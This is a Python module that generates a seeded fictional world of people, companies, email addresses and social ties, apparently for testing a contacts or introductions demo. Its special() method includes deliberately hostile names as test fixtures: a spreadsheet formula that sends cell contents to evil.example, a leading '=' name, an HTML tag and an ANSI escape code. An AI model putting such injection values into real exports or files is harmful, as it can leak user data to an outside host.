"""The people of the demo and how close they are: circles, companies, and who truly knows whom.

Everything here is the truth that exports show a part of. Circles overlap in people (a former colleague now works
elsewhere, a singer founded a company), which is what makes introductions possible.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from random import Random

from anyascii import anyascii

from pipelines.demo import names
from pipelines.demo.names import Company

OWNERS = ("mara", "jonas")


@dataclass(frozen=True)
class Person:
    """One fictional person. ``key`` is their true id; ``mailbox_shared`` names another who reads the same mailbox."""

    key: str
    given: str
    family: str
    tongue: str
    city: str
    company: Company | None
    role: str | None
    work_mail: str | None
    home_mail: str
    phone: str
    profile: str
    circles: tuple[str, ...]
    suffix: str = ""
    former: Company | None = None
    former_mail: str | None = None
    mailbox_shared: str | None = None

    @property
    def name(self) -> str:
        return f"{self.given} {self.family}"

    @property
    def addresses(self) -> tuple[str, ...]:
        """Every address of theirs, the one to use today first."""
        return tuple(a for a in (self.work_mail, self.home_mail, self.former_mail) if a)


@dataclass
class World:
    """All people and true ties. ``knows[(a, b)]`` with a < b is how close two people are, in (0, 1]."""

    people: dict[str, Person] = field(default_factory=dict)
    knows: dict[tuple[str, str], float] = field(default_factory=dict)

    def tie(self, a: str, b: str) -> float:
        """How close a and b truly are; 0 for strangers."""
        return self.knows.get((min(a, b), max(a, b)), 0.0)

    def friends(self, key: str) -> dict[str, float]:
        """Everybody whom one person knows, by key."""
        found = {b if a == key else a: s for (a, b), s in self.knows.items() if key in (a, b)}
        return dict(sorted(found.items()))

    def introduce(self, a: str, b: str, strength: float) -> None:
        """Let two people know each other at least this well."""
        pair = (min(a, b), max(a, b))
        self.knows[pair] = max(strength, self.knows.get(pair, 0.0))


CIRCLES = {
    # circle: (people, share of pairs who know each other, the owners in it with the share of it they know)
    "brightfjord": (42, 0.45, {"mara": 0.85}),
    "kontorwerk": (44, 0.35, {"mara": 0.8}),
    "school": (40, 0.25, {"mara": 0.7}),
    "choir": (40, 0.3, {"mara": 0.8}),
    "startups": (46, 0.2, {"mara": 0.35, "jonas": 0.6}),
    "medivale": (38, 0.45, {"jonas": 0.85}),
    "quayside": (36, 0.35, {"jonas": 0.8}),
    "rowing": (24, 0.35, {"jonas": 0.8}),
    "family": (14, 0.8, {"mara": 1.0}),
}
_EMPLOYER = {"brightfjord": 0, "medivale": 2}
_FORMER = {"kontorwerk": 1, "quayside": 3}
OUTSIDERS = 7
"""People of each further company whom no owner has met: those whom one wants to reach."""


def build(seed: int) -> World:
    """The whole fictional world; equal for equal seeds."""
    world = World()
    maker = _Maker(Random(f"{seed}:people"))
    pool = list(names.COMPANIES[4:])
    members: dict[str, list[str]] = {}
    for circle, (size, _, _) in CIRCLES.items():
        members[circle] = []
        for _ in range(size):
            company = names.COMPANIES[_EMPLOYER[circle]] if circle in _EMPLOYER else maker.random.choice(pool)
            former = names.COMPANIES[_FORMER[circle]] if circle in _FORMER else None
            if former and maker.random.random() < 0.4:
                company, former = former, None
            person = maker.person((circle,), company if maker.random.random() < 0.93 else None, former)
            world.people[person.key] = person
            members[circle].append(person.key)
    for company in pool:
        for _ in range(OUTSIDERS):
            person = maker.person((), company, None)
            world.people[person.key] = person
    for person in maker.special():
        world.people[person.key] = person
        for circle in person.circles:
            members[circle].append(person.key)
    for owner, given, family, company in (
        ("mara", "Mara", "Eschenlauer", names.COMPANIES[0]),
        ("jonas", "Jonas", "Tildenbrück", names.COMPANIES[2]),
    ):
        circles = tuple(circle for circle, (_, _, owners) in CIRCLES.items() if owner in owners)
        former = names.COMPANIES[1 if owner == "mara" else 3]
        world.people[owner] = maker.person(
            circles, company, former, key=owner, name=(given, family, "german")
        )
    _meet(world, members, Random(f"{seed}:knows"))
    return world


def owner_addresses(world: World, owner: str) -> tuple[str, ...]:
    return world.people[owner].addresses


def _meet(world: World, members: dict[str, list[str]], random: Random) -> None:
    """Who knows whom: inside circles, among colleagues, and the owners with their circles."""
    for circle, (_, share, owners) in CIRCLES.items():
        _mingle(world, members[circle], share, random)
        for owner, known in owners.items():
            for key in members[circle]:
                if random.random() < known:
                    base = 0.55 if circle == "family" else 0.0
                    world.introduce(owner, key, min(1.0, base + random.betavariate(1.3, 3.2)))
    for company in names.COMPANIES[4:]:
        staff = [p.key for p in world.people.values() if p.company == company]
        _mingle(world, staff, 0.5, random)
    world.introduce("mara", "jonas", 0.8)
    for person in world.people.values():
        if person.mailbox_shared:
            world.introduce(person.key, person.mailbox_shared, 1.0)


def _mingle(world: World, keys: Iterable[str], share: float, random: Random) -> None:
    keys = list(keys)
    for i, a in enumerate(keys):
        for b in keys[i + 1 :]:
            if random.random() < share:
                world.introduce(a, b, max(0.05, random.betavariate(1.6, 2.6)))


class _Maker:
    """Makes people with names, addresses and numbers that nobody else in this world has."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self._taken: set[str] = set()
        self._n = 0

    def person(
        self,
        circles: tuple[str, ...],
        company: Company | None,
        former: Company | None,
        *,
        key: str | None = None,
        name: tuple[str, str, str] | None = None,
        **more: str,
    ) -> Person:
        random = self.random
        self._n += 1
        given, family, tongue = name or self._name()
        slug = ".".join(_slug(part) for part in (given, family))
        login = slug if slug not in self._taken else f"{slug}{self._n}"
        self._taken.add(login)
        short = f"{_slug(given)[0]}{_slug(family)}"
        short = f"{short}{self._n}" if short in self._taken else short
        self._taken.add(short)
        role = random.choice(names.SENIOR_ROLES if random.random() < 0.12 else names.ROLES)
        return Person(
            key=key or f"t{self._n:04d}",
            given=given,
            family=family,
            tongue=tongue,
            city=company.city if company and random.random() < 0.8 else random.choice(names.CITIES),
            company=company,
            role=role if company else None,
            work_mail=f"{login}@{company.domain}" if company else None,
            home_mail=more.pop("home_mail", f"{short}@{random.choice(names.FREE_MAIL)}"),
            # the German regulator reserves 030 23125 000 to 999 for fiction
            phone=more.pop("phone", f"+493023125{self._n:03d}"),
            profile=f"https://www.linkedin.com/in/{login.replace('.', '-')}-demo{self._n}",
            circles=circles,
            former=former,
            former_mail=f"{login}@{former.domain}" if former else None,
            **more,
        )

    def special(self) -> list[Person]:
        """The hard cases: namesakes, father and son, a couple with one mailbox, names that try to break out."""
        company = names.COMPANIES
        schmidt, novak = ("Michael", "Schmidt", "german"), ("Daniel", "Novak", "slavic")
        landline = "+493023125999"
        couple = "familie.brunnholt@freepost.example"
        inga, henrik = f"t{self._n + 7:04d}", f"t{self._n + 8:04d}"
        return [
            self.person(("startups",), company[9], None, name=schmidt),
            self.person(("rowing",), company[15], None, name=schmidt),
            self.person(("school",), company[8], None, name=novak),
            self.person(("quayside",), company[13], None, name=novak),
            self.person(("choir",), company[12], None, name=("Georg", "Falkenmoor", "german"), phone=landline, suffix="Sr."),
            self.person(("choir",), company[17], None, name=("Georg", "Falkenmoor", "german"), phone=landline, suffix="Jr."),
            self.person(("choir",), None, None, name=("Inga", "Brunnholt", "german"), home_mail=couple, mailbox_shared=henrik),
            self.person(("choir",), company[18], None, name=("Henrik", "Brunnholt", "german"), home_mail=couple, mailbox_shared=inga),
            self.person(("startups",), Company('=HYPERLINK("http://evil.example/?"&A1)', "formula.example", "Berlin", ""), None,
                        name=("Rolf", "=Wackenrath", "german")),
            self.person(("startups",), company[5], None, name=("<b>Pia</b>", "Grünenfeldt", "german")),
            self.person(("kontorwerk",), company[6], company[1], name=("Tove\x1b[31m", "Lauenmoor", "german")),
        ]  # fmt: skip

    def _name(self) -> tuple[str, str, str]:
        while True:
            tongue = self.random.choice(
                ("german", "german", "english", "english", "slavic", "romance", "far")
            )
            words = names.TONGUES[tongue]
            given = self.random.choice(words.given)
            family = self.random.choice(words.stems) + self.random.choice(words.endings)
            if f"{_slug(given)}.{_slug(family)}" not in self._taken:
                return given, family, tongue


def _slug(text: str) -> str:
    german = text.replace("ü", "ue").replace("ö", "oe").replace("ä", "ae")
    return "".join(c for c in anyascii(german).lower() if c.isalnum())
